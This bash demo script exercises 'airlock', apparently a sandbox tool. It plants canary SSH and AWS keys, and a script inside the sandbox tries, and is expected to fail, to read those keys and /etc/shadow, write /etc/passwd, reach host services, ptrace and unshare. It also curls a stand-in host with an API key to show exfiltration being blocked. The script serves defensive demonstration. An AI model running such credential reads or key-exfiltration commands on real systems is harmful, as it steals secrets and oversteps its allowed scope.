#!/usr/bin/env bash
# airlock demo: build airlock, then run a script inside a sandbox that tries
# to step outside its walls, against a fake home with planted secrets and a
# local server on the host. Every attempt is reported; the sandbox may only
# change its workspace.
set -euo pipefail
cd "$(dirname "$0")/.."
command -v go >/dev/null || { echo "demo: Go is needed to build airlock (https://go.dev/dl)" >&2; exit 1; }

work=$(mktemp -d /tmp/airlock-demo.XXXXXX)
chmod 755 "$work"
server_pid=""
cleanup() { [ -n "$server_pid" ] && kill "$server_pid" 2>/dev/null; rm -rf "$work"; }
trap cleanup EXIT

echo "== building airlock"
.ci/build "$work/airlock" # as the README builds it
go build -o "$work/upstream" ./demo/upstream
go build -o "$work/fakemodel" ./demo/fakemodel

# A fake home with secrets a real one would have, and a secret in the environment.
home="$work/home"
mkdir -p "$home/.ssh" "$home/.aws" "$home/project"
echo "-----BEGIN OPENSSH PRIVATE KEY----- demo-canary" >"$home/.ssh/id_ed25519"
printf '[default]\naws_secret_access_key = demo-canary\n' >"$home/.aws/credentials"
echo 'print("hello from the workspace")' >"$home/project/app.py"

# A server on the host's loopback that the sandbox must not reach.
python3 -m http.server 18765 --bind 127.0.0.1 --directory "$work" >/dev/null 2>&1 &
server_pid=$!
sleep 0.3

cat >"$home/project/escape.sh" <<'INNER'
ok()  { printf '  \033[32m✓ %s\033[0m\n' "$*"; }
bad() { printf '  \033[31m✗ %s\033[0m\n' "$*"; }
try() { # try WHAT COMMAND...: the sandbox should refuse COMMAND
	local what=$1; shift
	if "$@" >/dev/null 2>&1; then bad "$what: allowed!"; else ok "$what: refused"; fi
}
echo "inside: $(id -un)@$(hostname), cwd $(pwd)"
python3 app.py && echo "# written inside the sandbox" >> app.py && ok "edit the workspace: allowed"
try "write /etc/passwd"            sh -c 'echo x >> /etc/passwd'
try "write outside the workspace"  touch "$HOME/../outside.txt" /usr/local/bin/evil
try "read ~/.ssh/id_ed25519"       grep -q canary "$HOME/.ssh/id_ed25519"
try "read ~/.aws/credentials"      grep -q canary "$HOME/.aws/credentials"
try "read /etc/shadow"             grep -q root /etc/shadow
try "see \$AWS_SECRET_ACCESS_KEY"   test -n "${AWS_SECRET_ACCESS_KEY:-}"
try "reach the host's loopback"    python3 -c 'import urllib.request; urllib.request.urlopen("http://127.0.0.1:18765/", timeout=2)'
try "see the host's server process" sh -c 'grep -qs "http[.]server" /proc/[0-9]*/cmdline'
try "ptrace"                       python3 -c 'import ctypes,sys; sys.exit(ctypes.CDLL(None).ptrace(0,0,0,0) != 0)'
try "create a user namespace"      unshare -U true
try "change a kernel setting"      sh -c 'echo 1 > /proc/sys/vm/drop_caches'
INNER

echo "== the same checks run directly on the host, for contrast (on a copy of the project)"
cp -r "$home/project" "$work/host-copy"
(cd "$work/host-copy" && HOME=$home AWS_SECRET_ACCESS_KEY=demo-canary bash escape.sh 2>/dev/null |
	sed -n '/ssh\|aws\|AWS\|loopback\|process/p') || true
cp "$home/project/app.py" "$work/app.before"

echo "== inside airlock:  airlock run -- bash escape.sh"
cd "$home/project"
HOME=$home AWS_SECRET_ACCESS_KEY=demo-canary AIRLOCK_STATE_DIR="$work/state" \
	"$work/airlock" run -- bash escape.sh
echo "== afterwards, on the host: the workspace edit is there; nothing else changed"
diff "$work/app.before" "$home/project/app.py" | sed 's/^/  /' || true
[ ! -e "$home/outside.txt" ] && echo "  $home/outside.txt: does not exist"

# Act two: the network. A stand-in for a public API runs on the host
# (HTTPS on 127.0.0.3:443, its own CA). The sandbox may reach it and nothing
# else, and holds only a placeholder for its API key.
if [ "$(id -u)" != 0 ]; then
	echo "== (skipping the network act: the demo API listens on port 443, which needs root)"
	exit 0
fi
"$work/upstream" -addr 127.0.0.3:443 -name api.demo.test -ca-out "$work/demo-ca.pem" >"$work/upstream.log" 2>&1 &
api_pid=$!
trap 'kill $api_pid 2>/dev/null; cleanup' EXIT
sleep 0.3
export DEMO_API_KEY="sk-demo-REAL-KEY-$(date +%s)"
echo
echo "== the network, through airlock's gateway (on the host: DEMO_API_KEY=$DEMO_API_KEY)"
echo "   airlock run --allow-host api.demo.test --allow-host paste.demo.test --secret DEMO_API_KEY@api.demo.test ..."
"$work/airlock" doctor 2>/dev/null | grep "^network mode" | sed 's/^/   /' || true
HOME=$home AIRLOCK_STATE_DIR="$work/state" "$work/airlock" run --name demo-net \
	--allow-host api.demo.test --allow-host paste.demo.test --secret DEMO_API_KEY@api.demo.test \
	--add-host api.demo.test:127.0.0.3 --add-host paste.demo.test:127.0.0.3 --upstream-ca "$work/demo-ca.pem" -- sh -c '
	echo "inside: DEMO_API_KEY=$DEMO_API_KEY"
	echo "-- allowed: curl https://api.demo.test/v1/chat with the key"
	curl -sS https://api.demo.test/v1/chat -H "Authorization: Bearer $DEMO_API_KEY"
	echo "-- blocked: curl https://example.com/ (the name does not even resolve inside)"
	curl -sS -o /dev/null https://example.com/ 2>&1 | sed "s/^/   /"
	echo "-- blocked: the key sent to another allowed host"
	curl -sS "https://paste.demo.test/upload?k=$DEMO_API_KEY" 2>&1 | sed "s/^/   /"'
echo "-- what the API server on the host received (the real key was swapped in on the way out):"
sed 's/^/   /' "$work/upstream.log"
echo "-- airlock audit demo-net"
AIRLOCK_STATE_DIR="$work/state" "$work/airlock" audit demo-net | sed 's/^/   /'

# Act three: an agent. Claude Code — the real CLI from npm — runs in the
# sandbox against a stand-in model on the host (Anthropic's API under its
# real name, on 127.0.0.7:443 with a throwaway CA). The model asks it to
# write a file, then to fetch a page from a host nobody allowed.
echo
echo "== an agent: airlock agent run claude (the real Claude Code, against a stand-in model)"
agents_data="${AIRLOCK_DEMO_DATA:-${XDG_CACHE_HOME:-$HOME/.cache}/airlock-demo}"
if ! AIRLOCK_DATA_DIR="$agents_data" "$work/airlock" agent ls 2>/dev/null | grep -q '^claude .* airlock /'; then
	if ! command -v npm >/dev/null; then
		echo "   (skipping: npm is needed to install Claude Code: apt install npm)"
		exit 0
	fi
	AIRLOCK_DATA_DIR="$agents_data" "$work/airlock" agent install claude 2>&1 | sed 's/^/   /'
fi
"$work/fakemodel" -addr 127.0.0.7:443 -dir "$work" -workspace "$home/project" >"$work/model.log" 2>&1 &
model_pid=$!
trap 'kill $api_pid $model_pid 2>/dev/null; cleanup' EXIT
sleep 0.3
export ANTHROPIC_API_KEY="sk-ant-demo-REAL-KEY-$(date +%s)"
echo "   on the host: ANTHROPIC_API_KEY=$ANTHROPIC_API_KEY"
echo "   airlock agent run claude --add-host api.anthropic.com:127.0.0.7 --upstream-ca ca.pem -- -p 'add a greeting module'"
HOME=$home AIRLOCK_STATE_DIR="$work/state" AIRLOCK_DATA_DIR="$agents_data" "$work/airlock" agent run claude \
	--name demo-agent --workspace "$home/project" \
	--add-host api.anthropic.com:127.0.0.7 --upstream-ca "$work/ca.pem" -- -p "add a greeting module" 2>&1 | sed 's/^/   /'
echo "-- what the model API on the host received (the gateway swapped the placeholder for the real key):"
sed 's/^/   /' "$work/model.log"
echo "-- the workspace afterwards: greeting.py, written by the agent"
sed 's/^/   /' "$home/project/greeting.py"
echo "-- airlock audit demo-agent: the model's requests with their token counts, and the refused host"
AIRLOCK_STATE_DIR="$work/state" "$work/airlock" audit demo-agent | grep -E 'DENY|llm ' | cut -c1-160 | sed 's/^/   /'
echo "-- airlock get demo-agent: the sandbox's LLM usage"
AIRLOCK_STATE_DIR="$work/state" "$work/airlock" get demo-agent | python3 -c 'import json,sys; print("  ", json.dumps(json.load(sys.stdin).get("llm")))'
